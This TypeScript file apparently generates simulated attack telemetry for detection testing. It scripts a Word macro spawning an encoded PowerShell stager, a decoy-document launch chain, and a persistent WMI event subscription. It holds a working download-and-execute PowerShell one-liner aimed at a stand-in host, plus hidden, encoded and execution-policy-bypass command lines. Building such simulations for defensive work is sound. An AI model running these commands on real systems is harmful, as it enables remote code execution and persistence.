/** Attack scenes on execution: Office documents at both ends of a chain, and permanent WMI subscriptions. */
import { pipeline, scriptBlock } from '../audit.ts';
import { encodeCommand } from '../background/system.ts';
import { sysmonTime } from '../clock.ts';
import { userOf } from '../host.ts';
import { images, libraries, makeImage } from '../images.ts';
import { schemas } from '../schemas.ts';
import { nearlyOffice } from './chains.ts';
import { anyWorkstation, auditedWorkstation, chain, elevated, part, victim, type Scene } from './types.ts';

const STAGER_HOST = { ip: '203.0.113.77', name: 'cdn.freight-portal.example', port: 443 };
const STAGER = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${STAGER_HOST.name}/u/7f3a')`;

export const macroChain: Scene = {
  id: 'office-macro-chain',
  title: 'A macro in a Word document starts PowerShell, which starts cmd.exe and rundll32.exe',
  technique: 'T1204.002',
  tactic: 'execution',
  host: auditedWorkstation,
  play(stage) {
    const desktop = victim(stage);
    const { home } = desktop;
    const document = `${home}\\Downloads\\Freight_invoice_88213.docm`;
    part(stage, 'open document');
    const word = stage.start(images.winword, `"${images.winword.path}" /n "${document}" /o ""`, {
      parent: desktop.explorer,
      directory: `${home}\\Downloads\\`,
    });
    stage.load(word, libraries.vbe7);
    stage.wait(6, 15);
    part(stage, 'PowerShell stager');
    const shell = stage.startConsole(
      images.powershell,
      `powershell.exe -nop -w hidden -enc ${encodeCommand(STAGER)}`,
      { parent: word },
    );
    stage.load(shell, libraries.automation);
    stage.load(shell, libraries.amsi);
    scriptBlock(stage, shell, STAGER);
    pipeline(
      stage,
      shell,
      'New-Object',
      'CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"',
    );
    stage.dns(shell, STAGER_HOST.name, STAGER_HOST.ip);
    stage.connect(shell, STAGER_HOST);
    const payload = `${home}\\AppData\\Local\\Temp\\wrkfl.dll`;
    stage.fileCreate(shell, payload);
    stage.wait(2, 5);
    part(stage, 'payload');
    const cmd = stage.startConsole(
      images.cmd,
      `"C:\\Windows\\system32\\cmd.exe" /c rundll32.exe ${payload},StartW`,
      { parent: shell, lives: 3e6 },
    );
    const rundll = stage.start(images.rundll32, `rundll32.exe  ${payload},StartW`, { parent: cmd });
    chain(stage, 'office-to-script-host', [word, shell]);
    chain(stage, 'office-to-script-host', [word, cmd]);
    chain(stage, 'office-to-connection', [word, shell]);
    chain(stage, 'office-to-connection', [word, rundll]);
    stage.load(rundll, makeImage(payload));
    stage.dns(rundll, 'api.freight-portal.example', '203.0.113.78');
    stage.connect(rundll, { ip: '203.0.113.78', name: 'api.freight-portal.example', port: 443 });
    stage.wait(20, 60);
    stage.exit(shell);
    return desktop.user;
  },
};

export const scriptedWord: Scene = {
  id: 'cmd-powershell-word-chain',
  title: 'cmd.exe starts PowerShell, which through a script host starts Word with a decoy document',
  technique: 'T1059.001',
  tactic: 'execution',
  host: auditedWorkstation,
  play(stage) {
    const desktop = victim(stage);
    const { home } = desktop;
    const folder = `${home}\\AppData\\Local\\Temp\\7zO4C1`;
    part(stage, 'script from archive');
    const cmd = stage.startConsole(images.cmd, `"C:\\Windows\\system32\\cmd.exe" /c "${folder}\\open.bat"`, {
      parent: desktop.explorer,
      directory: `${folder}\\`,
    });
    const shell = stage.start(
      images.powershell,
      `powershell  -w hidden -ep bypass -file ${folder}\\run.ps1`,
      { parent: cmd },
    );
    stage.load(shell, libraries.automation);
    scriptBlock(
      stage,
      shell,
      `Copy-Item "${folder}\\decoy.dat" "${home}\\Downloads\\Carrier terms.docx"; Start-Process wscript.exe "${folder}\\show.vbs"`,
      `${folder}\\run.ps1`,
    );
    stage.fileCreate(shell, `${home}\\Downloads\\Carrier terms.docx`);
    stage.wait(2, 4);
    part(stage, 'decoy');
    const script = stage.start(images.wscript, `"C:\\Windows\\System32\\WScript.exe" "${folder}\\show.vbs"`, {
      parent: shell,
      lives: 4e6,
    });
    const inner = stage.startConsole(
      images.cmd,
      `"C:\\Windows\\System32\\cmd.exe" /c start winword "${home}\\Downloads\\Carrier terms.docx"`,
      { parent: script, lives: 2e6 },
    );
    const word = stage.start(
      images.winword,
      `"${images.winword.path}" "${home}\\Downloads\\Carrier terms.docx"`,
      { parent: inner },
    );
    chain(stage, 'cmd-powershell-office', [cmd, shell, word]);
    stage.fileCreate(word, `${home}\\Downloads\\~$rrier terms.docx`);
    stage.wait(5, 9);
    part(stage, 'clean up');
    stage.fileDelete(shell, `${folder}\\run.ps1`);
    stage.exit(shell);
    stage.exit(cmd);
    nearlyOffice(stage);
    return desktop.user;
  },
};

export const wmiSubscription: Scene = {
  id: 'wmi-subscription',
  title: 'Permanent WMI event subscription that runs PowerShell when it fires',
  technique: 'T1546.003',
  tactic: 'persistence',
  host: anyWorkstation,
  play(stage) {
    const { host } = stage;
    const desktop = victim(stage);
    const name = 'SystemCoreUpdater';
    const command = `powershell.exe -NonI -W hidden -enc ${encodeCommand(STAGER)}`;
    part(stage, 'register');
    const shell = stage.startConsole(
      images.powershell,
      'powershell.exe -ep bypass -file C:\\Users\\Public\\setup.ps1',
      elevated(desktop),
    );
    scriptBlock(
      stage,
      shell,
      `Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='${name}'}`,
      'C:\\Users\\Public\\setup.ps1',
    );
    const user = userOf(shell.logon.account);
    // Sysmon puts these texts in quotation marks, doubles the backslashes and starts them with a blank.
    stage.wait(0.2, 1);
    stage.sysmon(schemas.wmiFilter, [
      '-', 'WmiFilterEvent', sysmonTime(stage.time), 'Created', user, ' "root\\\\CimV2"', ` "${name}"`,
      " \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"",
    ]); // prettier-ignore
    stage.wait(0.2, 1);
    stage.sysmon(schemas.wmiConsumer, [
      '-', 'WmiConsumerEvent', sysmonTime(stage.time), 'Created', user, ` "${name}"`, 'Command Line',
      ` "${command}"`,
    ]); // prettier-ignore
    stage.wait(0.2, 1);
    stage.sysmon(schemas.wmiBinding, [
      '-', 'WmiBindingEvent', sysmonTime(stage.time), 'Created', user,
      ` "\\\\\\\\.\\\\root\\\\subscription:CommandLineEventConsumer.Name=\\"${name}\\""`,
      ` "\\\\\\\\.\\\\root\\\\subscription:__EventFilter.Name=\\"${name}\\""`,
    ]); // prettier-ignore
    stage.wait(3, 8);
    stage.exit(shell);
    stage.wait(60, 120);
    part(stage, 'fire');
    const provider = stage.start(
      images.wmiprvse,
      'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      { parent: host.base.svchostDcom, logon: host.system, integrity: 'System' },
    );
    stage.load(provider, libraries.wmiutils);
    const consumer = stage.start(images.scrcons, 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding', {
      parent: host.base.svchostDcom,
      logon: host.system,
      integrity: 'System',
      lives: 60e6,
    });
    stage.load(consumer, libraries.wmiutils);
    const run = stage.startConsole(images.powershell, command, { parent: provider });
    stage.dns(run, STAGER_HOST.name, STAGER_HOST.ip);
    stage.connect(run, STAGER_HOST);
    stage.wait(10, 30);
    stage.exit(run);
    return desktop.user;
  },
};
